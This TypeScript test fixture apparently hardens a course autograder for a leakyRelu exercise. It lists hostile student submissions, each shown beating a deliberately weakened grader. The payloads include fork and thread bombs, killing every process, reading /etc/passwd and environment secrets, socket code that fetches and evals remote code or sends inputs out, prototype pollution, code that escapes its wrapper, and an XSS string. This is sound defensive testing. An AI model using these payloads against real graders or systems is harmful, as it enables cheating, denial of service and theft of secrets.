/**
 * Hostile submissions: somebody who does not know F1 and wants its points all the same, or wants to do harm. Each wins on a
 * weakened grader, which shows that it is an attack.
 */
import { root } from "./solutions";
import { type Seen, tooMuch, type Weakness } from "./weakened/graders";
import type { CheckName } from "./weakened/harness";
import { publicInputs } from "./weakened/inputs";

/** A hostile submission. F2 and F3 are right in it. */
export interface Attack {
  /** The cell in which F1 belongs. */
  readonly code: string;
  /** What a student is told. */
  readonly told: RegExp;
  /** Whether it may spoil the student's own right answers as well. */
  readonly spoilsTheRest?: true;
  /** The grader on which it wins. */
  readonly grader: Weakness;
}

/** A function that does something and then returns its argument, which is wrong. */
export const f = (does: string) =>
  `function leakyRelu(Z1: Matrix, slope: number): any {\n${does}\n  return Z1.copy();\n}`;

/** Wrong, and nothing else. */
export const wrong = f("");

/** The module of Node.js by that name, as `lib`. */
export const node = (module: string) =>
  `const lib: any = (globalThis as any).process.getBuiltinModule?.("${module}") ?? require("${module}");`;

/** Takes what is right from JSON in one of these texts, if one holds it. */
const fromText = (texts: string) =>
  `for (const text of ${texts} as string[]) { try { const right = JSON.parse(text).find((r: number[]) => r.length === Z1.data.length && r.every((x, k) => Z1.data[k] <= 0 || x === Z1.data[k])); return new Matrix(Z1.rows, Z1.cols, Float64Array.from(right)); } catch {} }`;

/** A connection to a friend outside; the tests put the friend's port in place of FRIEND. */
const connected = `${node("node:net")}\nconst friend: any = lib.connect(FRIEND, "127.0.0.1");\nfriend.on("error", () => {});`;

/** What is right for the inputs of the check in the notebook. */
function publicTable(): string {
  const rows = publicInputs().map(({ Z, expected }) => [Z.data.join(), expected]);
  return JSON.stringify(Object.fromEntries(rows));
}

const passedOf = (value: unknown) => (value as { passed?: unknown } | undefined)?.passed === true;

const gives = (naive: string, check: CheckName): Weakness => ({
  naive,
  check,
  falls: ({ said }) => said.some(passedOf),
});

const endless = (naive: string, check: CheckName): Weakness => ({
  naive,
  check,
  endless: true,
  falls: ({ code }) => code === undefined,
});

const uses = (what: keyof typeof tooMuch, naive: string, check: CheckName): Weakness => ({
  naive,
  check,
  falls: (seen) => seen[what] > tooMuch[what],
});

const loses = (naive: string, check: CheckName): Weakness => ({
  naive,
  check,
  falls: ({ said }) => !said.some(({ kind }) => kind === "next student"),
});

/** All that was said, merged field by field as some graders do, prototypes and all. */
function merged(said: Seen["said"]): object {
  const known = Object.create({});
  for (const message of said) {
    for (const [name, value] of Object.entries(message)) {
      if (name === "__proto__") Object.assign(Object.getPrototypeOf(known), value);
      else if (name !== "passed") known[name] = value;
    }
  }
  return known;
}

/** The attacks by what they do. */
export const attacks: Readonly<Record<string, Attack>> = {
  "a loop without an end": {
    code: f("while (true) {}"),
    told: /took too long/,
    grader: endless("it has no time limit", "strictly"),
  },
  "a loop in the cell": {
    code: `${wrong}\nwhile (true) {}`,
    told: /A1\[/,
    grader: { ...endless("its time limit starts with the checks", "strictly"), deadline: "checks" },
  },
  "a loop after an await": {
    code: `${wrong}\nawait null; while (true) {}`,
    told: /A1\[/,
    grader: endless("its time limit bounds the cells until their first await", "with the cells' time bounded"),
  },
  "a promise that never comes": {
    code: `${wrong}\nawait new Promise(() => setInterval(() => {}, 1000));`,
    told: /A1\[/,
    grader: { ...endless("its time limit is of the processor's time", "strictly"), processorSeconds: 5 },
  },
  "recursion without an end": {
    code: f("leakyRelu(Z1, slope);"),
    told: /Maximum call stack/,
    grader: gives("a stack overflow is taken for the comparison's own", "with a stack overflow excused"),
  },
  "exit in the function": {
    code: f("process.exit(0);"),
    told: /ended early/,
    grader: { naive: "an exit code of 0 is a pass", check: "by exit code", falls: ({ code }) => code === 0 },
  },
  "exit in the cell": {
    code: `${wrong}\nprocess.exit(0);`,
    told: /A1\[/,
    grader: {
      naive: "what is not reported wrong is right",
      check: "by what is reported wrong",
      falls: ({ stdout }) => !stdout.includes("✗"),
    },
  },
  "exit by another way": {
    code: f("(process as any).reallyExit(0);"),
    told: /ended early/,
    grader: {
      naive: "process.exit is replaced, and then an exit code of 0 is a pass",
      check: "by exit code, without process.exit",
      falls: ({ code }) => code === 0,
    },
  },
  abort: {
    code: f("process.abort();"),
    told: /ended early/,
    grader: {
      naive: "an abort is put down to V8's being out of memory, and excused",
      check: "by exit code",
      falls: ({ code }) => code === 0 || code === 134,
    },
  },
  "kills its process": {
    code: f("process.kill(process.pid, 'SIGKILL');"),
    told: /ended early/,
    grader: {
      naive: "a kill is taken for the grader's own, after which what was not wrong counts",
      check: "by what is reported wrong",
      falls: ({ code, said }) => (code === 137 || code === 0) && !said.some(({ kind }) => kind === "wrong"),
    },
  },
  "kills everything": {
    code: f("try { process.kill(-1, 'SIGKILL'); } catch {}"),
    told: /ended early|A1\[/,
    grader: loses("several students' processes see each other", "with a neighbour"),
  },
  "arrays without end": {
    code: f("const all: any[] = []; while (true) all.push(new Array(1e5).fill(1.5));"),
    told: /memory|ended early|too long/,
    grader: uses("memory", "it has no bound on memory", "strictly"),
  },
  "buffers without end": {
    code: f("const all: any[] = []; while (true) all.push(Buffer.alloc(5e7, 1));"),
    told: /memory|ended early/,
    grader: { ...uses("memory", "its bound on memory is one of V8's heap", "strictly"), heap: 128 },
  },
  "processes without end": {
    code: f(
      `${node("node:child_process")} let started = 0; for (let k = 0; k < 50; k++) { try { if (lib.spawn(process.execPath, ["-e", "for(;;);"]).pid) started++; } catch {} } if (started > 0) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1000);`,
    ),
    told: /A1\[|ended early/,
    grader: uses("processes", "it has no bound on processes", "strictly"),
  },
  "threads without end": {
    code: f(
      `${node("node:worker_threads")} for (let k = 0; k < 500; k++) { try { new lib.Worker("for(;;);", { eval: true }); } catch {} }`,
    ),
    // Which bound it reaches first depends on what keeps it: a control group counts threads, a limit their memory.
    told: /too many threads or processes|too much memory|took too long/,
    grader: uses("threads", "it has no bound on threads", "strictly"),
  },
  "output without end": {
    code: f("for (;;) console.log('passed '.repeat(1000));"),
    told: /took too long/,
    grader: {
      naive: "it keeps all that is printed",
      check: "strictly",
      // What is not read at once is kept by the one that prints.
      falls: ({ bytes, memory }) => bytes > tooMuch.bytes || memory > tooMuch.memory,
    },
  },
  "answers without end": {
    code: f(`${node("node:fs")} for (;;) lib.writeSync(3, 'x'.repeat(65536));`),
    told: /put out far too much/,
    grader: uses("bytes", "it keeps all that is said on the channel of the answers", "strictly"),
  },
  "says that all is done": {
    code: f(`${node("node:fs")} lib.writeSync(3, '{"kind":"end"}\\n'); process.exit(0);`),
    told: /no answer|ended early/,
    spoilsTheRest: true,
    grader: {
      naive: "at the end everything counts that was not reported wrong",
      check: "by what is reported wrong",
      falls: ({ said }) => said.some(({ kind }) => kind === "end") && !said.some(({ kind }) => kind === "wrong"),
    },
  },
  "answers with a verdict": {
    code: f(
      `${node("node:fs")} lib.writeSync(3, '{"kind":"answer","id":"F1","index":0,"answer":{"passed":true,"score":4}}\\n');`,
    ),
    told: /A1\[/,
    grader: {
      naive: "it believes a verdict in an answer",
      check: "strictly",
      falls: ({ said }) => passedOf(said.at(-1)) || said.some(({ answer }) => passedOf(answer)),
    },
  },
  "answers with prototypes": {
    code: f(
      `${node("node:fs")} lib.writeSync(3, '{"kind":"answer","id":"__proto__","index":0,"answer":{"kind":"record","fields":{}},"__proto__":{"passed":true}}\\n');`,
    ),
    told: /A1\[/,
    grader: {
      naive: "it merges the answers into what it knows, prototypes too",
      check: "strictly",
      falls: ({ said }) => passedOf(merged(said)),
    },
  },
  "prints a score": {
    code: f("console.log('✓ F1 passed'); console.error('score: 4/4');"),
    told: /A1\[/,
    grader: {
      naive: "it reads the printed text",
      check: "strictly",
      falls: ({ stdout, said }) => /✓ F1/.test(stdout) || said.some(passedOf),
    },
  },
  "patches comparisons": {
    code: `Object.is = () => true; Math.abs = () => 0; Math.max = () => 1;\n${wrong}`,
    told: /./,
    spoilsTheRest: true,
    grader: gives("it compares in the student's process, with Math.abs", "with NaN let pass"),
  },
  "patches arrays": {
    code: `const all: any = Array.prototype; all.every = () => true; all.some = () => false; all.find = () => undefined; all.filter = () => [];\n${wrong}`,
    told: /./,
    spoilsTheRest: true,
    grader: gives("it compares in the student's process, with every", "with every"),
  },
  "patches typed arrays": {
    code: `Float64Array.prototype.every = () => true; Float64Array.prototype.findIndex = () => -1;\n${wrong}`,
    told: /A1\[/,
    spoilsTheRest: true,
    grader: gives("it compares in the student's process, with the typed array's every", "with the typed array's every"),
  },
  "patches JSON": {
    code: `JSON.stringify = (() => '{"passed":true}') as any; JSON.parse = (() => ({ passed: true })) as any;\n${wrong}`,
    told: /./,
    spoilsTheRest: true,
    grader: gives("it writes its verdict in the student's process", "with JSON of the end"),
  },
  "patches the check": {
    code: `(globalThis as any).verify = () => ({ passed: true }); (globalThis as any).assertVerified = () => true;\n${wrong}`,
    told: /A1\[/,
    grader: gives("its check is a global function", "with a global function"),
  },
  "patches modules": {
    code: `const cache: any = (require as any).cache ?? {};\nfor (const key of Object.keys(cache)) cache[key].exports = { verify: () => true };\n${wrong}`,
    told: /A1\[/,
    grader: gives("its check is a module that the student's require reaches", "with a module"),
  },
  "patches Matrix": {
    code: `(Matrix as any).isMatrix = () => true; (Matrix.prototype as any).minus = () => Matrix.zeros(1, 1);\n${wrong}`,
    told: /./,
    spoilsTheRest: true,
    grader: gives("it compares with the student's own Matrix", "with the matrices' own minus"),
  },
  "an object with valueOf": {
    code: `function leakyRelu(Z1: Matrix, slope: number): any { let k = 0; const entry = { valueOf: () => (k++ % 2 === 0 ? Infinity : -Infinity) }; return { rows: Z1.rows, cols: Z1.cols, data: new Array(Z1.data.length).fill(entry) }; }`,
    told: /./,
    grader: gives("it compares entries that need not be numbers", "between bounds"),
  },
  "an object with getters": {
    code: `function leakyRelu(Z1: Matrix, slope: number): any { let k = 0; const M: any = Z1.copy(); Object.defineProperty(M, "data", { get: () => new Float64Array(k++ === 0 ? Z1.data.length : 0) }); return M; }`,
    told: /does not fit/,
    grader: gives("it reads an answer twice", "reading twice"),
  },
  "a Proxy": {
    code: `function leakyRelu(Z1: Matrix, slope: number): any { return new Proxy(Z1.copy(), { get: (M: any, name) => (name === "equals" ? () => true : M[name]) }); }`,
    told: /./,
    grader: gives("it asks the answer whether it is equal", "with the answer's own equals"),
  },
  "an object with toJSON": {
    code: `function leakyRelu(Z1: Matrix, slope: number): any { const M: any = Z1.copy(); M.toJSON = () => ({ passed: true }); return M; }`,
    told: /./,
    grader: gives("it makes JSON of what it was given, and takes a verdict in it for its own", "as JSON"),
  },
  NaN: {
    code: `function leakyRelu(Z1: Matrix, slope: number): Matrix { return Z1.map(() => NaN); }`,
    told: /is NaN/,
    grader: gives("it looks for errors that are too large, which NaN is not", "with NaN let pass"),
  },
  "numbers without end": {
    code: `function leakyRelu(Z1: Matrix, slope: number): Matrix { return Z1.map(() => Infinity); }`,
    told: /is ∞/,
    grader: gives("it divides by the larger of both numbers", "relative to the larger"),
  },
  "a giant matrix": {
    code: `function leakyRelu(Z1: Matrix, slope: number): Matrix { return Matrix.zeros(3000, 3000); }`,
    told: /./,
    grader: uses("bytes", "it takes answers of any size", "with answers and messages as they are"),
  },
  "its own argument, changed": {
    code: f("Z1.data.fill(0); return Z1;"),
    told: /changed one of its arguments/,
    grader: gives("it works out what is right from the argument, after the call", "with the argument after the call"),
  },
  "a promise": {
    code: `async function leakyRelu(Z1: Matrix, slope: number): Promise<Matrix> { return Z1; }`,
    told: /async/,
    grader: gives("it compares what came back, and there is nothing", "over what came back"),
  },
  "an exception that can't be read": {
    code: f(`throw new Proxy(new Error("x"), { get() { throw new Error("no"); } });`),
    told: /stopped with/,
    grader: loses(
      "it reads an error's message without care, in a process of several students",
      "two students in one process",
    ),
  },
  "reads the disk": {
    code: f(
      `${node("node:fs")} for (const path of ["${root}/notebooks/instructor/forward-pass.ipynb", "/forward-pass.ipynb"]) { try { const cell = JSON.parse(lib.readFileSync(path, "utf8")).cells.find((c: any) => c.metadata.nbgrader?.grade_id === "F1-solution"); const text = [].concat(cell.source).join("").replace(/: (Matrix|number)/g, ""); return new Function("return " + text)()(Z1, slope); } catch {} }
      for (const path of ["/etc/passwd", "/proc/self/environ", "/proc/1/cmdline", "/root", "/home/student"]) { let there = true; try { lib.readFileSync(path); } catch { try { there = lib.readdirSync(path).length > 0; } catch { there = false; } } if (there) throw new Error("FOUND " + path); }`,
    ),
    told: /A1\[/,
    grader: gives("the solutions are on the disk that students see", "strictly"),
  },
  "looks for secrets": {
    code: f(fromText("Object.values(process.env)")),
    told: /A1\[/,
    grader: { ...gives("what is right stands in the environment", "strictly"), expectedIn: "environment" },
  },
  "writes files": {
    code: f(
      `${node("node:fs")} for (const folder of ["/mnt", "/tmp", "/home/student", "", "/dev/shm", "${root}"]) { try { lib.writeFileSync(folder + "/F1-passed", "4"); } catch {} }`,
    ),
    told: /A1\[/,
    grader: {
      naive: "it believes a file of results",
      check: "strictly",
      falls: ({ files, said }) => files.includes("F1-passed") || said.some(passedOf),
    },
  },
  "a late timer": {
    code: `${wrong}\nsetTimeout(() => process.exit(0), 1); setInterval(() => {}, 1);`,
    told: /A1\[/,
    spoilsTheRest: true,
    grader: {
      naive: "once the cells have run, an exit code of 0 is a pass",
      check: "by exit code, once the cells have run",
      falls: ({ code, said }) => code === 0 && said.some(({ kind }) => kind === "cells done"),
    },
  },
  "a late rejection": {
    code: `${wrong}\nPromise.reject(new Error("late")); setTimeout(() => { throw new Error("later"); }, 0);`,
    told: /A1\[/,
    grader: loses("an error that nobody catches ends the process of several students", "two students in one process"),
  },
  "breaks out of its cell": {
    code: "function leakyRelu(Z1, slope) { return Z1.copy(); }\n} catch {} return { passed: true }; try {",
    told: /./,
    grader: gives("it puts a cell's text between its own", "with the cell's text in a try"),
  },
  "takes the names of the machinery": {
    code: "var $begin = () => true, $failed = () => {}; const $error = 1, $function0 = 2; var $check = () => ({ passed: true });\nfunction leakyRelu(Z1, slope) { return Z1.copy(); }",
    told: /./,
    spoilsTheRest: true,
    grader: gives("its check is a name in the cells' scope", "in the cell's scope"),
  },
  "a line without end": {
    code: f(`${node("node:fs")} for (let k = 0; k < 800; k++) lib.writeSync(3, "[".repeat(65536));`),
    told: /put out far too much/,
    grader: uses("bytes", "it waits for the end of a line, however long", "strictly"),
  },
  "a message without end": {
    code: f("throw new Error('x'.repeat(2 ** 26));"),
    told: /stopped with Error: xxx/,
    grader: uses("bytes", "it passes messages on as they are", "with answers and messages as they are"),
  },
  "says again and again that it begins": {
    code: f(
      `${node("node:fs")} for (;;) { lib.writeSync(3, '{"kind":"begin","id":"F1"}\\n'); Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 50); }`,
    ),
    told: /took too long/,
    grader: { ...endless("its time limit starts anew with everything that is said", "strictly"), deadline: "renewed" },
  },
  "looks at its own arguments": {
    code: f(fromText("process.argv")),
    told: /A1\[/,
    grader: { ...gives("what is right stands in the process's arguments", "strictly"), expectedIn: "arguments" },
  },
  "asks a friend": {
    code: `${connected}
const told: string = await new Promise((done) => { let text = ""; friend.on("data", (part: any) => (text += part)); friend.on("end", () => done(text)); friend.on("error", () => done("")); });
${f('if (told !== "") return new Function("return " + told)()(Z1, slope);')}`,
    told: /A1\[/,
    grader: { ...gives("students' code has a network", "strictly"), network: true },
  },
  "sends the inputs out": {
    code: `${connected}
await new Promise((done) => { friend.on("connect", done); friend.on("error", done); });
${f('friend.write("Z1 is " + Z1.data.join());')}`,
    told: /A1\[/,
    grader: {
      naive: "students' code has a network, and everybody has the same inputs",
      check: "strictly",
      network: true,
      falls: ({ heard }) => heard.includes("Z1 is "),
    },
  },
  "a table of the public check's answers": {
    code: `const table: any = ${publicTable()};\n${f("if (table[Z1.data.join()]) return new Matrix(Z1.rows, Z1.cols, Float64Array.from(table[Z1.data.join()]));")}`,
    told: /A1\[/,
    grader: { ...gives("its inputs are those of the notebook's own check", "strictly"), publicSeed: true },
  },
  "imports the registry": {
    code: `const { exercises }: any = require("./src/course/exercises");\n${f("if (Array.isArray(exercises)) return exercises.find(({ id }: any) => id === 'F1').parts[0].expectations({ Z1, slope: new Matrix(1, 1, Float64Array.of(slope)) })[0].expected;")}`,
    told: /A1\[/,
    grader: gives("the registry and its oracles can be imported where students' code runs", "strictly"),
  },
  "one right entry": {
    code: `function leakyRelu(Z1: Matrix, slope: number): Matrix { return Matrix.fromRows([[Math.max(Z1.get(0, 0), 0)]]); }`,
    told: /expected N×H/,
    grader: gives("it compares as many entries as there are, and looks at no shape", "as far as both go"),
  },
  "markup in its message": {
    code: f('throw new Error("<script>alert(1)</script>");'),
    told: /<script>/,
    grader: {
      naive: "its report shows messages as markup",
      check: "with answers and messages as they are",
      falls: ({ said }) => said.some(({ error }) => /<script>/.test(`<p>${error}</p>`)),
    },
  },
  "nothing at all": {
    code: "// somebody before me has written it",
    told: /no function named leakyRelu/,
    grader: gives("students' code runs in the process of the student before", "after another student"),
  },
};
